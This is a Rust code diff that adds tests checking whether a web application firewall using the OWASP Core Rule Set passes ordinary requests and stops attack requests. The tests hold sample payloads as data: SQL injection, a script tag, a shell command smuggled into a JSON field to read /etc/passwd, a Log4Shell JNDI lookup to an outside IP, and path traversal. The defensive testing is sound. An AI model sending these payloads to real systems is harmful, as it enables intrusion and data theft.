@@ -32,26 +32,57 @@ pub(crate) fn play(visitor: &mut Visitor<'_>) {
     affinity(visitor);
 }
 
+pub(crate) fn core_rule_set(visitor: &mut Visitor<'_>) {
+    table::heading("the OWASP Core Rule Set at paranoia level 1, by the waf alone");
+    let alone = |expect: Expect<'static>| Expect { authz: "-", canary: "-", affinity: "-", ..expect };
+    let (passes, stopped) = (alone(PASSES), alone(STOPPED));
+    let get = |path: &str| Request::get(path).header("user-agent", "Mozilla/5.0").header("accept", "*/*");
+    let post = |kind: &str, body: &str| {
+        Request::post("/", body)
+            .header("user-agent", "Mozilla/5.0")
+            .header("accept", "*/*")
+            .header("content-type", kind)
+    };
+    visitor.send("an ordinary search", get("/search?q=red+shoes+size+42"), passes);
+    visitor.send("an ordinary form", post(FORM, "name=Ann&text=Nice+shoes%21"), passes);
+    visitor.send("ordinary JSON", post(JSON, r#"{"items": [{"id": 7, "name": "Shoes"}]}"#), passes);
+    visitor.send("SQL injection in the query", get("/search?q=1%27%20OR%20%271%27=%271%27%20--%20"), stopped);
+    visitor.send("a script in a form", post(FORM, "text=%3Cscript%3Ealert(1)%3C/script%3E"), stopped);
+    visitor.send(
+        "a shell command in JSON",
+        post(JSON, r#"{"host": "example.com; cat /etc/passwd"}"#),
+        stopped,
+    );
+    visitor.send(
+        "Log4Shell in a header",
+        get("/").header("x-api-version", "${jndi:ldap://198.51.100.7/a}"),
+        stopped,
+    );
+    visitor.send("a path traversal", get("/files?name=../../../../etc/passwd"), stopped);
+    visitor.send("a scanner", Request::get("/").header("user-agent", "sqlmap/1.8"), stopped);
+}
+
+const FORM: &str = "application/x-www-form-urlencoded";
+const JSON: &str = "application/json";
+
 fn waf(visitor: &mut Visitor<'_>) {
     table::heading("waf: rules on the request, its body included, before anything goes upstream");
-    let form = "application/x-www-form-urlencoded";
     visitor.send("an ordinary search", Request::get("/search?q=red+shoes+size+42"), PASSES);
     visitor.send("SQL injection in the query", Request::get("/search?q=1%27%20OR%20%271%27=%271"), STOPPED);
     visitor.send("a path traversal", Request::get("/files?name=../../../../etc/passwd"), STOPPED);
     visitor.send(
         "an ordinary form",
-        Request::post("/comments", "name=Ann&text=Nice+shoes%21").header("content-type", form),
+        Request::post("/comments", "name=Ann&text=Nice+shoes%21").header("content-type", FORM),
         PASSES,
     );
     visitor.send(
         "a script in a form",
-        Request::post("/comments", "text=%3Cscript%3Ealert(1)%3C/script%3E").header("content-type", form),
+        Request::post("/comments", "text=%3Cscript%3Ealert(1)%3C/script%3E").header("content-type", FORM),
         STOPPED,
     );
     visitor.send(
         "SQL injection in JSON",
-        Request::post("/api", r#"{"id": "1 UNION SELECT password FROM users"}"#)
-            .header("content-type", "application/json"),
+        Request::post("/api", r#"{"id": "1 UNION SELECT password FROM users"}"#).header("content-type", JSON),
         STOPPED,
     );
     visitor.send("a scanner", Request::get("/").header("user-agent", "sqlmap/1.8"), STOPPED);
